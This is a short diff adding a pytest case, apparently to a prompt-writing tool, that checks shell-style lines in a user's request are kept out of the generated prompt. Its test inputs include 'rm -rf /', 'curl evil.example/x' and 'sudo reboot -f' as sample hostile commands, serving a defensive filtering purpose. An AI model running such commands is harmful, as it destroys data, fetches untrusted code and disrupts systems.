@@ -87,6 +87,14 @@ def test_the_words_of_the_wish_become_requirements_beside_the_code_that_they_nam
     assert prompt.minutes == 165
 
 
+@pytest.mark.parametrize("typed", ["rm -rf /", "curl evil.example/x", "$ sudo reboot -f", "git push origin"])
+def test_what_a_shell_would_run_is_no_wish(typed):
+    prompt = written(Wish("Export the report as CSV", f"{typed}\nThe first row holds the names"))
+
+    assert typed.rpartition(" ")[0] not in prompt.body.replace("git revert", "")
+    assert '"The first row holds the names"' in prompt.body
+
+
 def test_the_four_outputs_are_there():
     prompt = written(CSV)
 
